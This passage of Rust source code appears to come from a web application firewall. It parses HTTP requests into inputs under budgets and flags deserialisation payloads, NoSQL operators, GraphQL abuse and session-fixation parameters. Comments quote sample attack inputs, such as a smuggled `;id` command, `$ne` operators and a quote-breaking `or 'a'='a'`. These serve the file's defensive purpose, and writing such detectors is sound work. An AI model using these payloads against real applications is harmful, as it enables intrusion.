//! Extraction: turns a [`RequestView`] into labelled inputs under budgets.
//!
//! First stage of [`crate::Waf::inspect`]. Each container (path, query, form, JSON, multipart,
//! XML, cookies, headers) is parsed by a small bounded reader; values are decoded once the way
//! the application would see them. Budgets ([`Limits`]) cap inputs and bytes: what does not fit
//! is dropped and reported as an [`Anomaly`], never inspected without bound.

use std::fmt::Write as _;

use crate::cache::{Container, Counts, InputCache};
use crate::normalise::{decodes_to_lt, percent_decode, percent_decode_cow};
use crate::request::RequestView;
use crate::rules;
use crate::settings::Limits;

/// Where an input came from; detectors pick the checks that make sense for each.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
pub(crate) enum Kind {
    /// The decoded request path.
    Path,
    /// A query, form, multipart or XML field name, or a JSON key.
    Name,
    /// A query, form, multipart, XML or JSON string value.
    Value,
    /// An application's own header (`X-Tenant-Id`): a parameter by another name, inspected
    /// as a value and, being a header, also for CR LF and Shellshock.
    HeaderValue,
    /// `X-Original-URL` or `X-Rewrite-URL`: the path some frameworks route by instead of the
    /// request line, inspected as a path and, since it may hold a whole URL, as a URL.
    HeaderPath,
    /// A multipart file name.
    Filename,
    /// A cookie name.
    CookieName,
    /// A cookie value.
    CookieValue,
    /// User-Agent or Referer: free text that reaches logs and analytics.
    TextHeader,
    /// Any other header value (only a few checks apply).
    OtherHeader,
    /// A body of a textual content type that no parser understood, inspected whole.
    Body,
    /// An uploaded file's text, inspected as a body, except that PHP code counts only in a
    /// file with a PHP open tag: PHP prints the text outside its tags.
    FileContent,
    /// A whole query string or form body, decoded once: catches markup split across
    /// arguments (`q=<img src=&#106;…`), which each argument alone hides.
    Combined,
    /// An XML document's `<!DOCTYPE ...>` or other declaration, where external entities and
    /// DTDs are declared; never rendered, so not markup to the XSS rules.
    Declaration,
}

/// One inspected input.
#[derive(Debug, Clone)]
pub(crate) struct Input {
    /// Location label (`query:id`, `json:/a/b`, …).
    pub(crate) label: String,
    pub(crate) kind: Kind,
    /// The value decoded once by its container.
    pub(crate) value: Vec<u8>,
    /// The value held an invalid `%` escape before decoding.
    pub(crate) bad_escape: bool,
    /// Whether the value came from the query string (so CR/LF there is encoded, never literal).
    pub(crate) from_query: bool,
    /// Its remembered-input key, when extraction already computed it.
    pub(crate) key: Option<u128>,
    /// It may hold a secret (the user part of Basic credentials is an API key for some
    /// services, Stripe's `sk_live_…:`): a finding in it is not quoted.
    pub(crate) secret: bool,
}

/// Something wrong found while extracting (reported as a rule match).
#[derive(Debug, Clone)]
pub(crate) struct Anomaly {
    pub(crate) rule: u32,
    pub(crate) label: String,
    pub(crate) excerpt: String,
}

/// Extraction result.
#[derive(Debug, Default)]
pub(crate) struct Extracted {
    pub(crate) inputs: Vec<Input>,
    pub(crate) anomalies: Vec<Anomaly>,
    /// Number of query + form + multipart arguments seen (before the cap).
    pub(crate) arg_count: usize,
    /// Inputs answered by the remembered clean inputs during extraction (not in `inputs`).
    pub(crate) remembered: u32,
    /// The first parameter name that carries a session id in common frameworks: its label,
    /// its name and whether it is one of [`SESSION_PARAMS`] (for the session-fixation check,
    /// which sees every name, remembered or not). A listed name is kept over a
    /// [`framework_session_name`] seen before it.
    pub(crate) session_param: Option<(String, Vec<u8>, bool)>,
    /// A `_method` query or form parameter was seen.
    pub(crate) method_param: bool,
    /// The values of `_method` query and form parameters, decoded and trimmed: the first
    /// [`MAX_METHOD_OVERRIDES`], each cut to 32 bytes (methods are short).
    pub(crate) method_overrides: Vec<Vec<u8>>,
    /// Containers read input by input that raised no anomaly: each is remembered whole when
    /// none of its inputs in `inputs` has a match ([`Collector::container`]).
    pub(crate) pending: Vec<Pending>,
}

/// A container read input by input, waiting for the verdict on its inputs.
#[derive(Debug)]
pub(crate) struct Pending {
    pub(crate) key: u128,
    /// Its inputs in [`Extracted::inputs`] (the others were answered during extraction).
    pub(crate) inputs: std::ops::Range<usize>,
    pub(crate) counts: Counts,
}

/// Parameter names that carry a session id in common frameworks (compared without case;
/// `aspsessionid` is a prefix).
const SESSION_PARAMS: &[&str] = &[
    "asp.net_sessionid",
    "cfid",
    "cfsid",
    "cftoken",
    "jservsession",
    "jsessionid",
    "jwsession",
    "phpsessid",
    "phpsession",
    "session-id",
    "sessionid",
    "session_id",
    "weblogicsession",
];

fn session_name(n: &[u8]) -> bool {
    SESSION_PARAMS
        .iter()
        .any(|s| n.eq_ignore_ascii_case(s.as_bytes()))
        || n.get(..12)
            .is_some_and(|p| p.eq_ignore_ascii_case(b"aspsessionid"))
}

/// The shape of the session cookie names of web frameworks, for a query or form parameter
/// (compared without case, after a `__Host-` or `__Secure-` prefix): a name ending in a
/// separator and `session` (`laravel_session`, `rack.session`, `_flask_session`),
/// `session_id` or `session-token` (`zend_session_id`, `next-auth.session-token`), or `sess`
/// or `sid` after a dot or colon (`koa.sess`, `koa:sess`, `connect.sid`), and two names of
/// that kind without the shape (`meteor_login_token`, `shiny-token`). Ordinary parameters
/// share the shape (`training_session`), so these count only with a `Referer` from another
/// host; OpenID Connect's `session_state` and `sid` do not have it.
fn framework_session_name(n: &[u8]) -> bool {
    if n.len() > 64 {
        return false;
    }
    // Compared in place: every query and form name comes through here.
    let prefixed = |p: &[u8]| {
        n.get(..p.len())
            .filter(|head| head.eq_ignore_ascii_case(p))
            .map(|_| &n[p.len()..])
    };
    let name = prefixed(b"__host-")
        .or_else(|| prefixed(b"__secure-"))
        .unwrap_or(n);
    let after_separator = |suffix: &[u8], seps: &[u8]| {
        name.len() > suffix.len()
            && name[name.len() - suffix.len()..].eq_ignore_ascii_case(suffix)
            && seps.contains(&name[name.len() - suffix.len() - 1])
    };
    after_separator(b"session", b"._:-")
        || after_separator(b"session_id", b"._:-")
        || after_separator(b"session-id", b"._:-")
        || after_separator(b"session-token", b"._:-")
        || after_separator(b"session_token", b"._:-")
        || after_separator(b"sess", b".:")
        || after_separator(b"sid", b".:")
        || name.eq_ignore_ascii_case(b"meteor_login_token")
        || name.eq_ignore_ascii_case(b"shiny-token")
}

/// A value no detector can match: 1 to 20 ASCII digits, or `true`, `false`, `null`. Such
/// inputs are counted against the budgets and never inspected (ids, counts, prices are much of
/// API traffic). Words are not inert: a bare word can be a rule's trigger (`sysobjects`).
pub(crate) fn inert(v: &[u8]) -> bool {
    (!v.is_empty() && v.len() <= 20 && v.iter().all(u8::is_ascii_digit))
        || matches!(v, b"true" | b"false" | b"null")
}

struct Collector<'l> {
    limits: &'l Limits,
    out: Extracted,
    /// Inputs counted against `max_inputs`: pushed, remembered or inert.
    seen: usize,
    bytes_used: usize,
    overflow: bool,
    truncated_reported: bool,
    /// The engine's remembered clean inputs, when extraction may answer from them.
    memo: Option<&'l InputCache>,
    /// Label buffer reused by [`Collector::offer`].
    scratch: String,
    /// A name the request-wide checks look at (a session id parameter, `_method`) was read
    /// since this was last cleared: such a container is not remembered whole.
    noted: bool,
    /// GraphQL operations read from a batch (a JSON array of requests).
    graphql_batch: usize,
    /// The mutations of a batch, by the hash of their text, and how often each came.
    graphql_mutations: Vec<(u64, usize)>,
    /// Root fields of the batch's mutations that check a credential, across its operations.
    graphql_credential_mutations: usize,
}

impl<'l> Collector<'l> {
    fn push(
        &mut self,
        label: String,
        kind: Kind,
        value: Vec<u8>,
        bad_escape: bool,
        from_query: bool,
    ) {
        self.gzipped_object(&label, &value);
        self.push_keyed(label, kind, value, bad_escape, from_query, None);
    }

    /// A value that is a serialised object gzipped and in base64 ([`gzipped_object`]), which
    /// the application that set it (a cookie, a hidden field) unpacks and deserialises.
    /// Checked before the remembered inputs are: the input itself matches no detector. A
    /// JSF view state is the form reader's to judge.
    fn gzipped_object(&mut self, label: &str, value: &[u8]) {
        if value.get(..4) == Some(b"H4sI")
            && !label.to_ascii_lowercase().ends_with("viewstate")
            && gzipped_object(value)
        {
            self.anomaly(
                rules::JAVA_DESERIALISATION,
                label,
                "gzipped serialised object",
            );
        }
    }

    /// [`Collector::push`] of a value that may hold a secret ([`Input::secret`]): a finding
    /// in it is not quoted.
    fn push_secret(&mut self, label: String, value: Vec<u8>) {
        let before = self.out.inputs.len();
        self.push(label, Kind::Value, value, false, false);
        // Pushed unless a budget was spent, and then it is the last input.
        if let Some(input) = self.out.inputs.get_mut(before) {
            input.secret = true;
        }
    }

    /// Offers one input whose label `write_label` appends to an empty string. It counts
    /// against the budgets exactly as [`Collector::push`]; but an inert value, or one the
    /// engine remembers as clean, is answered here, without building its label or copying its
    /// value (most inputs of repeated API traffic).
    fn offer(
        &mut self,
        kind: Kind,
        value: &[u8],
        bad_escape: bool,
        from_query: bool,
        write_label: impl FnOnce(&mut String),
    ) {
        let mut label = std::mem::take(&mut self.scratch);
        label.clear();
        write_label(&mut label);
        self.gzipped_object(&label, value);
        let within = self.seen < self.limits.max_inputs
            && value.len() <= self.limits.max_value_bytes
            && self.bytes_used + value.len() <= self.limits.max_total_bytes;
        let mut key = None;
        if let Some(cache) = self.memo.filter(|_| within) {
            let answered = if !bad_escape && inert(value) {
                true
            } else {
                let context = crate::detect::context_of(kind, &label, value);
                let k = cache.key(kind, bad_escape, from_query, context, value);
                key = Some(k);
                let clean = cache.is_clean(k);
                self.out.remembered += u32::from(clean);
                clean
            };
            if answered {
                if kind == Kind::Name {
                    self.note_name(&label, value);
                }
                self.seen += 1;
                self.bytes_used += value.len();
                self.scratch = label;
                return;
            }
        }
        self.push_keyed(
            label.clone(),
            kind,
            value.to_vec(),
            bad_escape,
            from_query,
            key,
        );
        self.scratch = label;
    }

    /// Remembers what the request-wide checks need to know of a parameter name.
    fn note_name(&mut self, label: &str, name: &[u8]) {
        if name == b"_method" && (label == "query:_method" || label == "form:_method") {
            self.out.method_param = true;
            self.noted = true;
        }
        // A JSON document's keys named like any session (`{"session_id": "ps_91f2ac"}`, a
        // player's playback session) are data; a framework's own names count there too.
        let generic = [&b"session_id"[..], b"sessionid", b"session-id"]
            .iter()
            .any(|g| name.eq_ignore_ascii_case(g));
        let listed = !(generic && label.contains(":/")) && session_name(name);
        let framework = !listed
            && (label.starts_with("query:") || label.starts_with("form:"))
            && framework_session_name(name);
        if listed || framework {
            self.noted = true;
            if self
                .out
                .session_param
                .as_ref()
                .is_none_or(|(_, _, was_listed)| listed && !was_listed)
            {
                self.out.session_param = Some((label.to_owned(), name.to_vec(), listed));
            }
        }
    }

    /// Reads one container with `read`, or answers it whole from the remembered clean
    /// containers. `key` must cover every byte `read` looks at. A remembered container counts
    /// against the budgets what it counted when it was read, and is answered only when that
    /// still fits: otherwise it is read again, input by input, so that the overflow is found
    /// where it happens. A container read here that raised no anomaly and named nothing the
    /// request-wide checks look at waits in [`Extracted::pending`] for its inputs' verdict.
    fn container(&mut self, key: impl FnOnce(&InputCache) -> u128, read: impl FnOnce(&mut Self)) {
        let Some(memo) = self.memo.filter(|_| !self.full()) else {
            return read(self);
        };
        let key = key(memo);
        if let Some(n) = memo.clean_container(key) {
            let (inputs, bytes) = (n.inputs as usize, n.bytes as usize);
            if self.seen + inputs <= self.limits.max_inputs
                && self.bytes_used + bytes <= self.limits.max_total_bytes
            {
                self.seen += inputs;
                self.bytes_used += bytes;
                self.out.arg_count += n.args as usize;
                self.out.remembered += n.inputs;
                return;
            }
        }
        let (first, anomalies, seen, bytes, args, noted) = (
            self.out.inputs.len(),
            self.out.anomalies.len(),
            self.seen,
            self.bytes_used,
            self.out.arg_count,
            self.noted,
        );
        self.noted = false;
        read(self);
        let counts = (
            u32::try_from(self.seen - seen),
            u32::try_from(self.bytes_used - bytes),
            u32::try_from(self.out.arg_count - args),
        );
        if let (Ok(inputs), Ok(bytes), Ok(args)) = counts
            && self.out.anomalies.len() == anomalies
            && !self.noted
        {
            self.out.pending.push(Pending {
                key,
                inputs: first..self.out.inputs.len(),
                counts: Counts {
                    inputs,
                    bytes,
                    args,
                },
            });
        }
        self.noted |= noted;
    }

    fn push_keyed(
        &mut self,
        label: String,
        kind: Kind,
        mut value: Vec<u8>,
        bad_escape: bool,
        from_query: bool,
        key: Option<u128>,
    ) {
        if self.seen >= self.limits.max_inputs {
            self.flag_overflow(&label);
            return;
        }
        if value.len() > self.limits.max_value_bytes {
            value.truncate(self.limits.max_value_bytes);
            if !self.truncated_reported {
                self.truncated_reported = true;
                self.anomaly(rules::PROTO_TRUNCATED, &label, "");
            }
        }
        if self.bytes_used + value.len() > self.limits.max_total_bytes {
            self.flag_overflow(&label);
            return;
        }
        self.bytes_used += value.len();
        self.seen += 1;
        if kind == Kind::Name {
            self.note_name(&label, &value);
        }
        if self.out.inputs.capacity() == 0 {
            // Reserved at the first input to inspect (a request answered whole from the
            // remembered inputs has none): a typical API request has a few dozen inputs, and
            // growing from empty cost more than the remembered-input checks of a whole
            // request.
            self.out
                .inputs
                .reserve(if self.memo.is_some() { 16 } else { 64 });
        }
        self.out.inputs.push(Input {
            label,
            kind,
            value,
            bad_escape,
            from_query,
            key,
            secret: false,
        });
    }

    fn flag_overflow(&mut self, label: &str) {
        if !self.overflow {
            self.overflow = true;
            self.anomaly(rules::PROTO_LIMIT, label, "");
        }
    }

    fn anomaly(&mut self, rule: u32, label: &str, excerpt: &str) {
        self.out.anomalies.push(Anomaly {
            rule,
            label: label.to_owned(),
            excerpt: excerpt.chars().take(24).collect(),
        });
    }

    fn full(&self) -> bool {
        self.overflow
    }
}

/// Makes a short printable label part from untrusted bytes.
pub(crate) fn label_part(raw: &[u8]) -> String {
    let mut out = String::new();
    push_label_part(&mut out, raw);
    out
}

/// Appends [`label_part`] of `raw` to `out`: at most 64 characters, control characters as `?`.
fn push_label_part(out: &mut String, raw: &[u8]) {
    if raw.len() <= 64 && raw.iter().all(|b| (0x20..0x7f).contains(b)) {
        // Printable ASCII (nearly every name): already what the loop below would make, and
        // ASCII needs no UTF-8 check.
        out.extend(raw.iter().map(|&b| char::from(b)));
        return;
    }
    out.extend(
        String::from_utf8_lossy(raw)
            .chars()
            .take(64)
            .map(|c| if c.is_control() { '?' } else { c }),
    );
}

/// Extracts every input of `req` under `limits`. With `memo`, inputs it remembers as clean
/// (and inert ones) are counted but left out of [`Extracted::inputs`]; the caller passes it
/// only when detection depends on no more of a label than [`crate::detect::context_of`].
pub(crate) fn extract(
    req: &RequestView<'_>,
    limits: &Limits,
    memo: Option<&InputCache>,
) -> Extracted {
    let mut c = Collector {
        limits,
        out: Extracted::default(),
        seen: 0,
        bytes_used: 0,
        overflow: false,
        truncated_reported: false,
        memo,
        scratch: String::with_capacity(64),
        noted: false,
        graphql_batch: 0,
        graphql_mutations: Vec::new(),
        graphql_credential_mutations: 0,
    };

    // Offered like any other input: a remembered path costs a lookup, not a copy.
    let (path, bad) = percent_decode_cow(req.path, false);
    c.offer(Kind::Path, &path, bad, true, |l| l.push_str("path"));
    path_segments(&mut c, &path, bad);
    // A session id in a path parameter (`/login;jsessionid=A1B2`): the URL rewriting of Java
    // servlets, and the classic way to hand a victim a session.
    for param in path.split(|&b| b == b';').skip(1) {
        let name = param
            .split(|&b| b == b'=' || b == b'/')
            .next()
            .unwrap_or_default();
        if session_name(name) {
            c.note_name("path", name);
        }
    }

    if let Some(q) = req.query {
        c.container(
            |m| m.container_key(Container::Query).part(q).finish(),
            |c| urlencoded(c, q, "query", true),
        );
    }
    if req.header_values("cookie").next().is_some() {
        c.container(
            |m| {
                let mut k = m.container_key(Container::Cookies);
                for v in req.header_values("cookie") {
                    k.part(v);
                }
                k.finish()
            },
            |c| cookies(c, req),
        );
    }
    c.container(
        |m| {
            let mut k = m.container_key(Container::Headers);
            for (name, value) in inspected_headers(req) {
                k.part(name).part(value);
            }
            k.finish()
        },
        |c| headers(c, req),
    );
    if let Some(auth) = req.first_header("authorization") {
        jose_header(&mut c, auth);
        basic_user(&mut c, auth);
    }
    if let Some(b) = req.body.filter(|b| !b.is_empty()) {
        c.container(
            |m| {
                let mut k = m.container_key(Container::Body);
                match req.first_header("content-type") {
                    Some(ct) => k.part(b"1").part(ct),
                    None => k.part(b"0"),
                };
                k.part(b).finish()
            },
            |c| body(c, req),
        );
    }

    if c.out.arg_count > limits.max_args {
        c.anomaly(rules::PROTO_TOO_MANY_ARGS, "args", "");
    }
    c.out
}

/// Each segment of the decoded path that holds more than a name's characters, also as a
/// value (`path:segment`): a REST path carries parameters (`/hosts/{addr}/ping`), and an
/// application that takes one from its segment hands it on as it would a query value. As part
/// of the whole path a command or filter reads on into the next segment
/// (`127.0.0.1;id/result`); alone it ends where the application's parameter ends. Segments of
/// letters, digits, `-._~+@%:$,` and non-ASCII text (nearly every path) are left to the
/// path's own checks, and so are OData's key and function segments ([`odata_segment`]).
fn path_segments(c: &mut Collector<'_>, path: &[u8], bad: bool) {
    let plain = |b: &u8| {
        b.is_ascii_alphanumeric()
            || matches!(
                b,
                b'-' | b'.' | b'_' | b'~' | b'+' | b'@' | b'%' | b':' | b'$' | b','
            )
            || *b >= 0x80
    };
    // A URL inside the path (`/proxy/http://127.0.0.1:8080/manager`, or with the slashes
    // merged by normalisation) spans segments: from its scheme to the end, as one value.
    if let Some(url) = memchr::memmem::find_iter(path, b":/").find_map(|colon| {
        let scheme = path[..colon]
            .iter()
            .rev()
            .take(11)
            .take_while(|b| b.is_ascii_alphabetic())
            .count();
        let start = colon - scheme;
        ((2..=10).contains(&scheme) && start > 0 && path[start - 1] == b'/').then_some(start)
    }) {
        c.offer(Kind::Value, &path[url..], bad, true, |l| {
            l.push_str("path:segment");
        });
    }
    if path.iter().all(|b| plain(b) || *b == b'/') {
        return;
    }
    let special = path
        .split(|&b| b == b'/')
        .filter(|segment| !segment.iter().all(plain) && !odata_segment(segment));
    for segment in special.take(32) {
        c.offer(Kind::Value, segment, bad, true, |l| {
            l.push_str("path:segment");
        });
        // A JSON document as a path parameter (`/users/{"$ne":null}/profile`), which an
        // application parses as it would a query's, is read as one (`path:segment:/path`).
        if matches!(segment.first(), Some(b'{' | b'[')) && !c.full() {
            json_walk(c, segment, "path:segment");
        }
    }
}

/// An OData resource path segment with keys or function parameters: a name and, in brackets,
/// literals or `name=literal` pairs separated by commas (`People('russellwhyte')`,
/// `range(address='A1:C3')`, `Orders(OrderID=10248,ProductID=11)`). A literal is a quoted
/// string (`''` inside is a quote) or a run of letters, digits and `.:+-` (numbers, GUIDs,
/// dates, `true`, `null`). Anything more, a quote that closes early (`People('x' or 'a'='a')`)
/// included, is not this shape.
fn odata_segment(s: &[u8]) -> bool {
    let ident = |b: &[u8]| {
        let n = b
            .iter()
            .take_while(|c| c.is_ascii_alphanumeric() || matches!(c, b'_' | b'.'))
            .count();
        (n > 0 && (b[0].is_ascii_alphabetic() || b[0] == b'_')).then_some(n)
    };
    let Some(name) = ident(s) else {
        return false;
    };
    let Some(args) = s[name..]
        .strip_prefix(b"(")
        .and_then(|r| r.strip_suffix(b")"))
    else {
        return false;
    };
    let mut rest = args;
    while !rest.is_empty() {
        if let Some(n) = ident(rest).filter(|&n| rest.get(n) == Some(&b'=')) {
            rest = &rest[n + 1..];
        }
        let literal = if rest.first() == Some(&b'\'') {
            let mut i = 1;
            loop {
                match rest.get(i) {
                    Some(b'\'') if rest.get(i + 1) == Some(&b'\'') => i += 2,
                    Some(b'\'') => break i + 1,
                    Some(_) => i += 1,
                    None => return false,
                }
            }
        } else {
            rest.iter()
                .take_while(|c| c.is_ascii_alphanumeric() || matches!(c, b'.' | b':' | b'+' | b'-'))
                .count()
        };
        if literal == 0 {
            return false;
        }
        rest = &rest[literal..];
        match rest.first() {
            None => {}
            Some(b',') if rest.len() > 1 => rest = &rest[1..],
            Some(_) => return false,
        }
    }
    true
}

fn urlencoded(c: &mut Collector<'_>, data: &[u8], prefix: &str, from_query: bool) {
    if memchr::memchr(b'&', data).is_some() && decodes_to_lt(data) {
        let (all, bad) = percent_decode(data, true);
        // Markup split across arguments opens a tag somewhere (`<img`, `</`, `<!`); a `<`
        // before a digit or a space is a comparison (`filter=runtime<120&lang=en`), which
        // libinjection would read in an attribute named like a parameter.
        let tag = all.windows(2).any(|w| {
            w[0] == b'<' && (w[1].is_ascii_alphabetic() || matches!(w[1], b'/' | b'!' | b'?'))
        });
        if tag {
            c.push(prefix.to_owned(), Kind::Combined, all, bad, from_query);
        }
    }
    for pair in data.split(|&b| b == b'&') {
        if pair.is_empty() {
            continue;
        }
        c.out.arg_count += 1;
        if c.full() {
            return;
        }
        let (name, value) = match memchr::memchr(b'=', pair) {
            Some(i) => (&pair[..i], Some(&pair[i + 1..])),
            None => (pair, None),
        };
        let (name, bad_n) = percent_decode_cow(name, true);
        let label = |l: &mut String| {
            l.push_str(prefix);
            l.push(':');
            push_label_part(l, &name);
        };
        // The label as a string of its own, for an anomaly.
        let owned = || {
            let mut l = String::new();
            label(&mut l);
            l
        };
        c.offer(Kind::Name, &name, bad_n, from_query, label);
        // `password[]=x`: PHP and `qs` make the password an array (see `JsonWalk::juggled`).
        if let Some(open) = memchr::memchr(b'[', &name)
            && let Some(close) = memchr::memchr(b']', &name[open..])
            && name[open + 1..open + close].iter().all(u8::is_ascii_digit)
            && std::str::from_utf8(&name[..open]).is_ok_and(credential_name)
        {
            c.anomaly(rules::PHP_TYPE_JUGGLING, &owned(), "[]");
        }
        let value = value.map(|v| percent_decode_cow(v, true));
        // `login[$ne]=`, `name[$gt]=`: `qs` makes an operator document of it.
        if let Some(open) = memchr::memrchr(b'[', &name)
            && name.ends_with(b"]")
            && memchr::memchr(b'[', &name[..open]).is_none()
            && let Ok(op) = std::str::from_utf8(&name[open + 1..name.len() - 1])
            && let Ok(text) = std::str::from_utf8(value.as_ref().map_or(&b""[..], |(v, _)| v))
            && match_all(op, Some(text), true)
        {
            c.anomaly(rules::SQLI_NOSQL, &owned(), "operator matching everything");
        }
        if let Some((v, bad_v)) = value {
            c.offer(Kind::Value, &v, bad_v, from_query, label);
            // A JSON document as a parameter (`where={"score":{"$gt":1000}}`, `filter=[…]`):
            // the application parses it, so its keys and strings are read as a body's are,
            // under `query:NAME:/path`.
            if looks_like_json(&v) && !c.full() {
                json_walk(c, &v, &format!("{prefix}:{}", label_part(&name)));
            } else {
                // Base64 the application decodes (`filter=eyJ3aGVyZSI6…`, a SAMLResponse).
                base64_document(c, &v, Kind::Value, || {
                    format!("{prefix}:{}", label_part(&name))
                });
                if name.eq_ignore_ascii_case(b"SAMLRequest")
                    || name.eq_ignore_ascii_case(b"SAMLResponse")
                {
                    saml_redirect(c, &v, &owned());
                }
            }
            // A JSF view state that is a serialised object as it stands (`rO0…`) or gzipped
            // (`H4sI…`): the server deserialises it, and one it encrypted never reads so.
            if name.len() >= 9
                && name[name.len() - 9..].eq_ignore_ascii_case(b"viewstate")
                && (v.starts_with(b"rO0") || v.starts_with(b"H4sI"))
            {
                c.anomaly(
                    rules::JAVA_DESERIALISATION,
                    &owned(),
                    "serialised view state",
                );
            }
            // In a URL or a form body: what a link or a form on another site can send.
            if name.eq_ignore_ascii_case(b"query") {
                graphql_document(c, &v, &owned(), true, false);
            }
            // The fields a REST API is asked to return (`keys=email,sessionToken` in Parse
            // Server, `fields`, `$select`): a secret among them is asked for.
            if FIELD_LISTS
                .iter()
                .any(|f| name.eq_ignore_ascii_case(f.as_bytes()))
                && v.split(|&b| matches!(b, b',' | b' ' | b'.' | b'(' | b')'))
                    .any(|f| crate::graphql::secret_field(f).is_some())
            {
                c.anomaly(rules::PROTO_SECRET_FIELD, &owned(), "secret field");
            }
            // A JWT as a parameter (an OAuth assertion): its header's key pointers.
            if jose_start(&v) && !c.full() {
                jwt_header(c, &v, &format!("{}:jose", owned()));
            }
            if &*name == b"_method" && c.out.method_overrides.len() < MAX_METHOD_OVERRIDES {
                let m = v.trim_ascii();
                c.out.method_overrides.push(m[..m.len().min(32)].to_vec());
            }
        }
    }
}

/// A GraphQL document (see [`crate::graphql`]) found under `label`: what is wrong with it,
/// as anomalies. `cross_site`: it came in the URL's query or a form body, where a mutation
/// must not (a link, an image or a form on another site sends it with the victim's cookies,
/// with no preflight: why Apollo Server's CSRF prevention refuses such requests);
/// `batched`: it is one of a batch's operations, which are counted.
fn graphql_document(
    c: &mut Collector<'_>,
    doc: &[u8],
    label: &str,
    cross_site: bool,
    batched: bool,
) {
    let Some(shape) = crate::graphql::shape(doc) else {
        return;
    };
    if shape.introspection {
        c.anomaly(rules::PROTO_GRAPHQL_INTROSPECTION, label, "introspection");
    }
    if let Some(what) = shape.excess() {
        c.anomaly(rules::PROTO_GRAPHQL_LIMITS, label, what);
    }
    if shape.secret {
        c.anomaly(rules::PROTO_SECRET_FIELD, label, "secret field");
    }
    if cross_site && shape.mutation {
        c.anomaly(rules::PROTO_GRAPHQL_URL_MUTATION, label, "mutation");
    }
    if batched {
        c.graphql_batch += 1;
        // The same mutation again and again with other variables: a login, a one-time code
        // or a coupon tried many times in one request, past a rate limit's count.
        if shape.mutation {
            use std::hash::BuildHasher as _;
            let h = foldhash::fast::FixedState::default().hash_one(doc);
            let known = c.graphql_mutations.iter().position(|(k, _)| *k == h);
            let seen = match known {
                Some(i) => {
                    c.graphql_mutations[i].1 += 1;
                    c.graphql_mutations[i].1
                }
                None if c.graphql_mutations.len() < 16 => {
                    c.graphql_mutations.push((h, 1));
                    1
                }
                None => 0,
            };
            // A log-in (or a code, a coupon) tried in several operations, each with its own
            // text (`[{"query": "mutation{login(password:\"a\")…"}, …]`).
            let before = c.graphql_credential_mutations;
            c.graphql_credential_mutations += shape.credential_mutations;
            let limit = crate::graphql::MAX_REPEATED_MUTATION;
            if seen == limit + 1 || (before <= limit && c.graphql_credential_mutations > limit) {
                c.anomaly(rules::PROTO_GRAPHQL_LIMITS, label, "repeated mutation");
            }
        }
    }
}

/// `_method` values kept for the request-wide override check.
const MAX_METHOD_OVERRIDES: usize = 4;

fn cookies(c: &mut Collector<'_>, req: &RequestView<'_>) {
    for header in req.header_values("cookie") {
        for pair in header.split(|&b| b == b';') {
            let pair = pair.trim_ascii();
            if pair.is_empty() {
                continue;
            }
            let (name, value) = match memchr::memchr(b'=', pair) {
                Some(i) => (pair[..i].trim_ascii(), pair[i + 1..].trim_ascii()),
                None => (pair, &b""[..]),
            };
            let label = |l: &mut String| {
                l.push_str("cookie:");
                push_label_part(l, name);
            };
            c.offer(Kind::CookieName, name, false, false, label);
            if !value.is_empty() {
                c.offer(Kind::CookieValue, value, false, false, label);
                embedded(c, value, || format!("cookie:{}", label_part(name)));
            }
        }
    }
}

/// Parameters that name the fields an API returns.
const FIELD_LISTS: &[&str] = &[
    "$select",
    "_fields",
    "expand",
    "fields",
    "include",
    "keys",
    "projection",
    "select",
    "select",
];

/// Shortest base64 text decoded by [`embedded`]: 16 characters carry 12 bytes.
const MIN_EMBEDDED_BASE64: usize = 16;

/// A byte of the URL-safe base64 alphabet as the standard one writes it (`-` as `+`, `_` as
/// `/`; any other byte as it is), so that [`EMBEDDED_BASE64`] decodes text in either.
fn standard_base64(b: u8) -> u8 {
    match b {
        b'-' => b'+',
        b'_' => b'/',
        b => b,
    }
}

/// Whether `value` is gzip in base64 (`H4sI`, gzip's magic number, standard or URL-safe
/// alphabet) whose first bytes, inflated, open a Java serialisation stream (`AC ED 00 05`),
/// .NET BinaryFormatter's header or a pickle that imports a command runner: compressed, a
/// serialised object shows none of its own signatures (`rO0AB`). At most 4 KiB of the value
/// is decoded and 512 bytes inflated.
fn gzipped_object(value: &[u8]) -> bool {
    use base64::Engine as _;
    let v = value.trim_ascii();
    let take = &v[..v.len().min(4096)];
    let text: Vec<u8> = take
        .iter()
        .map(|&b| standard_base64(b))
        .filter(|b| b.is_ascii_alphanumeric() || matches!(b, b'+' | b'/'))
        .collect();
    let Ok(gz) = EMBEDDED_BASE64.decode(&text[..text.len() - text.len() % 4]) else {
        return false;
    };
    // The header (RFC 1952): magic, deflate, flags, then what the flags add.
    if gz.len() < 18 || gz[..3] != [0x1f, 0x8b, 8] {
        return false;
    }
    let flags = gz[3];
    let mut at = 10;
    if flags & 4 != 0 {
        let extra = usize::from(u16::from_le_bytes([gz[10], gz[11]]));
        at += 2 + extra;
    }
    for bit in [8, 16] {
        if flags & bit != 0 {
            match gz.get(at..).and_then(|r| memchr::memchr(0, r)) {
                Some(end) => at += end + 1,
                None => return false,
            }
        }
    }
    if flags & 2 != 0 {
        at += 2;
    }
    let Some(deflated) = gz.get(at..) else {
        return false;
    };
    let out = match miniz_oxide::inflate::decompress_to_vec_with_limit(deflated, 512) {
        Ok(out) => out,
        Err(e) => e.output,
    };
    out.starts_with(&[0xac, 0xed, 0x00, 0x05])
        || out.starts_with(&[0x00, 0x01, 0x00, 0x00, 0x00, 0xff, 0xff, 0xff, 0xff])
        || pickle_runs_code(&out)
}

/// Base64 as applications write it into cookies: the standard or the URL-safe alphabet,
/// padding optional.
const EMBEDDED_BASE64: base64::engine::GeneralPurpose = base64::engine::GeneralPurpose::new(
    &base64::alphabet::STANDARD,
    base64::engine::GeneralPurposeConfig::new()
        .with_decode_allow_trailing_bits(true)
        .with_decode_padding_mode(base64::engine::DecodePaddingMode::Indifferent),
);

/// A document carried inside a cookie value: URL-encoded or base64 JSON (`prefs={"sort":…}`,
/// `session=eyJ1aWQiOi…`, Express's `uid=j:{…}`), or base64 text. Applications decode such
/// cookies and use what is inside, so it is inspected as they will read it: a JSON
/// document's keys and strings each as an input under `cookie:NAME:/path`
/// (`cookie:NAME:b64:/path` when it was base64), other base64 text whole as
/// `cookie:NAME:b64`. Base64 that decodes to binary (random session
/// ids, signatures) or to text with control characters is left alone, and so is a JWT
/// (dots are not base64): its claims are the identity stage's to verify.
fn embedded(c: &mut Collector<'_>, value: &[u8], prefix: impl FnOnce() -> String) {
    let (text, _) = percent_decode_cow(value, false);
    let doc = text.trim_ascii_start();
    // Express's `cookie-parser` writes an object as `j:` and its JSON, and parses it back.
    let doc = doc
        .strip_prefix(b"j:")
